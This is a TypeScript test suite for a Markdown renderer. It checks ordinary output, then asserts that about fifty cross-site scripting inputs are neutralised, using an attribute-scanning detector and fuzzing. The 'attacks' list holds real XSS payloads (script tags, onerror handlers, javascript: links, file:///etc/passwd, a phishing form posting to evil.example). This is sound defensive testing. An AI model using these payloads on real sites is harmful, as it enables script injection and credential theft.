import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './render.ts';

const file = '/files/0b2f6b3e-6c0a-4a52-9d7e-0f6e5a1c2b3d';

describe('what people write', () => {
  test.each([
    ['**bold** and *italic*', '<strong>bold</strong> and <em>italic</em>'],
    ['~~gone~~', '<del>gone</del>'],
    ['| a | b |\n|--:|---|\n| 1 | 2 |', '<td align="right" dir="auto">1</td>'],
    ['- [x] done\n- [ ] open', '☑ done'],
    ['[course](/lectures)', '<a href="/lectures" rel="nofollow noopener">course</a>'],
    ['<https://example.org>', 'href="https://example.org"'],
    [`![a plot](${file})`, `<img src="${file}" alt="a plot" loading="lazy" decoding="async">`],
    ['```py\nimport os\n```', 'color:var(--code-token-keyword)'],
    ['```brainfuck\n+++\n```', '<code class="language-brainfuck">+++'],
    ['$x^2$', 'class="katex"'],
    ['$$\nx^2\n$$', 'katex-display'],
    ['```math\nx^2\n```', 'katex-display'],
    ['It costs $5 and $10.', 'It costs $5 and $10.'],
    ['x &lt; y & z', 'x &#x3C; y &#x26; z'],
  ])('%j', async (source, html) => expect(await renderMarkdown(source)).toContain(html));

  test('headings go on from the page, without a jump', async () => {
    const html = await renderMarkdown('# Top\n\n### Below\n\n###### Deep', { headingLevel: 4 });
    expect(html.match(/<h\d/g)).toEqual(['<h4', '<h5', '<h6']);
  });

  test('footnotes of two texts on one page do not meet', async () => {
    const ids = async (source: string) =>
      [...(await renderMarkdown(source)).matchAll(/ id="([^"]+)"/g)].map((m) => m[1]);
    const [one, two] = await Promise.all([ids('a[^1]\n\n[^1]: b'), ids('c[^1]\n\n[^1]: d')]);
    expect(one.length).toBeGreaterThan(2);
    expect(one.filter((id) => two.includes(id))).toEqual([]);
  });

  test('a footnote leads to its text and back', async () => {
    const html = await renderMarkdown('a[^1]\n\n[^1]: b');
    const ids = new Set([...html.matchAll(/ id="([^"]+)"/g)].map((match) => match[1]));
    const targets = [...html.matchAll(/(?:href="#|aria-describedby=")([^"]+)"/g)].map((match) => match[1] ?? '');
    expect(targets.length).toBe(3);
    expect(targets.filter((target) => !ids.has(target))).toEqual([]);
  });
});

/** Everything a browser could run or fetch, read from the HTML by a parser of attributes, not by searching for words. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [tag, name = ''] of html.matchAll(/<([a-zA-Z][^\s/>]*)(?:"[^"]*"|'[^']*'|[^"'>])*>/g)) {
    if (
      /^(script|style|iframe|object|embed|form|input|button|textarea|link|meta|base|video|audio|template)$/i.test(name)
    ) {
      found.push(tag);
    }
    for (const [, attribute = '', value = ''] of tag.matchAll(/\s([^\s=>"']+)="([^"]*)"/g)) {
      if (/^on|^srcdoc$|^formaction$|^action$|^srcset$/i.test(attribute)) found.push(tag);
      if (attribute === 'href' && !/^(https?:|mailto:|[^:]*$|[/#?])/i.test(value)) found.push(tag);
      if (attribute === 'src' && !value.startsWith('/files/')) found.push(tag);
      if (attribute === 'style' && /url\(|expression|@import|position:\s*fixed/i.test(value)) found.push(tag);
    }
  }
  return found;
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://tracker.example/pixel.gif)',
  '![x](//tracker.example/pixel.gif)',
  `![x](${file}/../../api/auth/signout)`,
  '![x](/api/auth/signout)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x][y]\n\n[y]: javascript:alert(1) "t"',
  '[x](https://a.b "onmouseover=alert(1)")',
  '[x](https://a.b"onmouseover="alert(1))',
  '![" onerror="alert(1)](/files/x)',
  `![" onerror="alert(1)](${file} '" onload="alert(1)')`,
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://tracker.example/pixel.gif}$',
  '$\\htmlStyle{position:fixed}{x}$',
  '$\\htmlData{x=y}{x}$ $\\htmlId{root}{x}$ $\\htmlClass{sr-only}{x}$',
  '$\\color{red;background:url(//x)}{x}$',
  '$</span><script>alert(1)</script>$',
  '$$\n\\text{<img src=x onerror=alert(1)>}\n$$',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |',
  '<form action=https://evil.example><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<style>body{display:none}</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<a id="root" name="getElementById" class="fixed inset-0">x</a>',
];

describe('attacks', () => {
  test.each(attacks)('%j', async (source) => expect(dangers(await renderMarkdown(source))).toEqual([]));

  test('the search for dangers finds them', () => {
    for (const html of ['<script>', '<p onclick="x">', '<a href="javascript:x">', '<img src="https://a.b">']) {
      expect(dangers(html)).toHaveLength(1);
    }
  });

  test('HTML is read as it was typed', async () => {
    const html = await renderMarkdown('a <b>c</b>\n\n<script>alert(1)</script>');
    expect(html).toContain('a &#x3C;b>c&#x3C;/b>');
    expect(html).toContain('&#x3C;script>alert(1)&#x3C;/script>');
  });

  test('an image from elsewhere is a link', async () => {
    expect(await renderMarkdown('![cat](https://a.b/c.png)')).toContain(
      '<a href="https://a.b/c.png" rel="nofollow noopener">cat</a>',
    );
  });

  test('every link says who does not vouch for it', async () => {
    const html = await renderMarkdown(
      '[a](https://a.b) https://c.d www.e.f mail@g.h <https://i.j> [k](l)[^1]\n\n[^1]: m',
    );
    expect(html.match(/<a /g)?.length).toBe(html.match(/rel="nofollow noopener"/g)?.length);
  });

  test('only ids of its own, prefixed', async () => {
    const html = await renderMarkdown('# root\n\n[x](#root)\n\nb[^id]\n\n[^id]: c');
    for (const [, id = ''] of html.matchAll(/ id="([^"]+)"/g)) expect(id).toMatch(/^t[0-9a-f]{10}-/);
  });

  const pieces = fc.constantFrom(
    ...[
      '<',
      '>',
      '"',
      "'",
      '`',
      '```',
      '$',
      '$$',
      '[',
      ']',
      '(',
      ')',
      '!',
      '\n',
      '\n\n',
      '    ',
      '|',
      '|-|',
      '\\',
      '&#',
    ],
    ...[
      'javascript:',
      'alert(1)',
      'script',
      'img src=x onerror=',
      '<svg onload=',
      'href=',
      '[^1]',
      '[^1]: ',
      '- ',
      '> ',
    ],
    ...['data:', '\\href{', '\\text{', '}', '{', '~~', '**', '_', 'https://', '\u202e', '\u0000', '\ud800', '&colon;'],
  );
  test('no jumble of their parts becomes one', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(pieces, { maxLength: 40 }), async (parts) => {
        expect(dangers(await renderMarkdown(parts.join('')))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
